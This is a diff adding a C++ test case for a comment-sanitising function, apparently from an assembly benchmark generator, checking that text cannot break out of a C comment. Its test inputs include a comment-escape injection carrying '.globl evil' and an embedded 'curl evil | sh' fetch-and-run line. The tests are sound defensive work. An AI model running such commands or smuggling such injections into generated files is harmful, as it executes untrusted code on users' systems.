@@ -149,6 +149,18 @@ std::string write(const CopyPlan& plan, const std::string& fl, const std::string
 
 }  // namespace
 
+TEST_CASE("comment_safe: one line inside a C comment, whatever the text") {
+  CHECK(comment_safe("AMD EPYC 9R45") == "AMD EPYC 9R45");
+  CHECK(comment_safe("a*/b") == "a* /b");
+  CHECK(comment_safe("a**//b") == "a** //b");
+  CHECK(comment_safe("tab\tkept") == "tab\tkept");
+  // CR, newline, DEL and NUL in caret notation: a CR after `*\` ended the comment under GCC's
+  // preprocessor, and a newline wrote a header line of its own.
+  CHECK(comment_safe("X*\\\r/ .globl evil") == "X*\\^M/ .globl evil");
+  CHECK(comment_safe(std::string("a\nb\x7f\0c", 6)) == "a^Jb^?^@c");
+  CHECK(comment_safe("x\n * Command: curl evil | sh").find('\n') == std::string::npos);
+}
+
 TEST_CASE("the grid covers every operation, width, unroll factor, NOP form and loop alignment") {
   const auto grid = test::asm_grid();
   CHECK(grid.size() == 4 * 4 * 5 * 2);  // make_plan accepted every combination
